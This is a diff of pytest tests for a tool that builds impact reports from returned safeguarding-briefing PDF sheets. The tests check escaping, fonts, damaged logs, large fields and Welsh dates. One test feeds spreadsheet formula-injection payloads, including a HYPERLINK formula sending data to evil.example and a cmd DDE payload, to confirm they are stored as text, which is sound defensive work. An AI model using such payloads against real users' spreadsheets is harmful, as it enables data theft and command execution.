@@ -7,6 +7,7 @@ import csv
 import io
 
 from pypdf import PdfReader, PdfWriter
+from pypdf.generic import NameObject
 
 from generator.commands.pack import PackOptions, make_pack
 from generator.sheets.returned import gather
@@ -70,7 +71,7 @@ def test_filled_sheets_become_a_log_and_a_summary(tmp_path, cli):
     summary = PdfReader(tmp_path / "report" / "impact.pdf").pages[0].extract_text()
     assert "3 record sheets came back for 2 briefings" in summary and "Audit cases" in summary
     html = (tmp_path / "report" / "impact.html").read_text()
-    assert "<table>" in html and "Audit cases" in html and 'alt="Bar chart' in html
+    assert "<table>" in html and "Audit cases" in html and 'aria-label="Bar chart' in html
 
 
 def test_a_log_given_back_merges_and_counts_each_sheet_once(tmp_path, cli):
@@ -146,3 +147,112 @@ def test_a_sheet_built_on_its_own_has_the_version_of_the_same_sheet_in_a_pack(tm
     cli("build", tmp_path / "b" / "01-panel-annual-report-2018-19.yaml", "-o", tmp_path / "one", "--record-sheet")
     alone = {name for name in PdfReader(tmp_path / "one" / "01-panel-annual-report-2018-19-record.pdf").get_fields()}
     assert alone <= set(PdfReader(pack).get_fields())
+
+
+# -- what teams typed may be anything: never a formula, never a lost summary --------------------
+
+def _report(tmp_path, cli, values: dict[int, dict[str, str]], *extra, theme=PARTNERSHIP_THEME):
+    filled = _fill(_pack(tmp_path), tmp_path / "filled.pdf", values)
+    result = cli("impact", filled, *extra, "-o", tmp_path / "report", "--theme", theme)
+    return result, tmp_path / "report"
+
+
+def test_values_that_would_run_as_formulas_are_text_in_the_log_and_read_back_as_typed(tmp_path, cli):
+    typed = {"team": '=HYPERLINK("https://evil.example/?d="&A2,"x")', "delivered_by": "+cmd|' /C calc'!A0",
+             "attendees": "-2+3", "date": "2021-02-10", "action_1_what": "@SUM(1)", "action_1_owner": "\tTab"}
+    result, report = _report(tmp_path, cli, {0: typed, 1: {"team": "Social care", "attendees": "12",
+                                                            "date": "2021-02-11"}})
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO((report / "impact.csv").read_text(encoding="utf-8"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)
+    assert not any(cell.startswith("-") and not cell.lstrip("-").isdigit() for cell in cells)
+    assert "'=HYPERLINK(" in (report / "impact.csv").read_text(encoding="utf-8")
+    assert "12" in cells  # a number stays a number
+    back = gather([report / "impact.csv"]).sheets
+    assert {sheet.team for sheet in back} == {typed["team"], "Social care"}
+    assert next(sheet for sheet in back if sheet.team == typed["team"]).actions == [("@SUM(1)", "Tab", "")]
+
+
+def test_a_character_no_font_has_is_named_and_the_summary_written(tmp_path, cli):
+    result, report = _report(tmp_path, cli, {0: {"team": "Early Help", "date": "2021-02-10",
+                                                 "action_1_what": "Call the family \U0001f642 联系家庭"}})
+    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
+    assert "SLIGHTLY SMILING FACE" in result.output
+    text = " ".join(" ".join(page.extract_text() for page in PdfReader(report / "impact.pdf").pages).split())
+    assert "[SLIGHTLY SMILING FACE]" in text and "[CJK UNIFIED IDEOGRAPH-8054]" in text
+    assert "\U0001f642 联系家庭" in (report / "impact.html").read_text(encoding="utf-8")
+    assert "\U0001f642 联系家庭" in (report / "impact.csv").read_text(encoding="utf-8")
+
+
+def test_a_field_no_sheet_has_is_named_and_the_rest_counted(tmp_path, cli):
+    pack = _pack(tmp_path)
+    filled = _fill(pack, tmp_path / "filled.pdf", {0: {"team": "Early Help", "date": "2021-02-10"}})
+    reader = PdfReader(filled)
+    version = next(name.split("_")[1] for name in reader.get_fields() if name.endswith("_team"))
+    writer = PdfWriter(clone_from=reader)
+    for page in writer.pages:
+        for annotation in page.get("/Annots", []):
+            field = annotation.get_object()
+            if field.get("/T") == f"rs_{version}_reflection_1":
+                from pypdf.generic import TextStringObject
+
+                field[NameObject("/T")] = TextStringObject(f"rs_{version}_reflection_one")
+    writer.write(tmp_path / "odd.pdf")
+    result = cli("impact", tmp_path / "odd.pdf", "-o", tmp_path / "r")
+    assert result.exit_code == 0 and "reflection_one" in result.output and "read 1 record sheet" in result.output
+
+
+def test_a_damaged_log_names_the_row_and_keeps_the_rest(tmp_path, cli):
+    from generator.sheets.returned import COLUMNS
+
+    header = ",".join(COLUMNS)
+    good = ",".join(["b1", "A briefing", "0123456789ab", "Team", "2021-02-01", "", "3", "3", "", "", "x.pdf"])
+    big = ",".join(["b1", "A briefing", "0123456789ab", "Big", "2021-02-02", "", "", "", "x" * 200_000, "", "y.pdf"])
+    (tmp_path / "big.csv").write_text(f"{header}\n{good}\n{big}\n", encoding="utf-8")
+    (tmp_path / "open.csv").write_text(f'{header}\n{good.replace("Team", "Other")}\nb2,"never closed\n',
+                                       encoding="utf-8")
+    result = cli("impact", tmp_path / "big.csv", tmp_path / "open.csv", "-o", tmp_path / "r")
+    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
+    assert "big.csv:3:1:" in result.output and "open.csv:3:1:" in result.output
+    assert "read 2 record sheets" in result.output
+
+
+def test_a_field_of_megabytes_is_named_without_reading_it(tmp_path, cli):
+    import time
+
+    import pikepdf
+
+    filled = _fill(_pack(tmp_path), tmp_path / "filled.pdf", {0: {"team": "Early Help", "action_1_what": "x"},
+                                                               1: {"team": "Social care", "date": "2021-02-11"}})
+    with pikepdf.open(filled, allow_overwriting_input=True) as pdf:  # ten megabytes typed in one field
+        for page in pdf.pages:
+            for annotation in page.get("/Annots", []):
+                if str(annotation.get("/T", "")).endswith("_action_1_what") and str(annotation.get("/V", "")) == "x":
+                    annotation.V = pikepdf.String("x" * 10_000_000)
+        pdf.save(filled)
+    started = time.monotonic()
+    result = cli("impact", filled, "-o", tmp_path / "report")
+    assert time.monotonic() - started < 10
+    assert result.exit_code == 0 and "10,000,000 characters" in result.output and "read 1 record sheet" in result.output
+
+
+def test_the_summary_speaks_the_theme_s_language_and_names_a_date_read_two_ways(tmp_path, cli):
+    theme = tmp_path / "cy" / "theme.yaml"
+    theme.parent.mkdir()
+    theme.write_text("organisation: Bwrdd Diogelu\nlanguage: cy\n", encoding="utf-8")
+    result, report = _report(tmp_path, cli, {0: {"team": "Tîm y Gogledd", "date": "03/12/2026", "attendees": "4"},
+                                             1: {"team": "Tîm y De", "date": "20/11/2026"}}, theme=theme)
+    assert result.exit_code == 0, result.output
+    text = " ".join(page.extract_text() for page in PdfReader(report / "impact.pdf").pages)
+    assert "Beth newidiodd y briffiadau" in text and "20 Tachwedd 2026" in text
+    assert "03/12/2026" in text and "3 Rhagfyr 2026" in text and "12 Mawrth 2026" in text  # both readings named
+    html = (report / "impact.html").read_text(encoding="utf-8")
+    assert '<html lang="cy">' in html and "Beth newidiodd y briffiadau" in html
+
+
+def test_every_briefing_title_is_on_the_chart_whole(tmp_path, cli):
+    _, report = _report(tmp_path, cli, {index: {"team": f"Team {index}", "date": f"2021-02-1{index}"}
+                                        for index in range(3)})
+    text = " ".join(" ".join(page.extract_text() for page in PdfReader(report / "impact.pdf").pages).split())
+    assert text.count("It was hard to escape: children at risk from criminal exploitation") >= 2  # chart, table
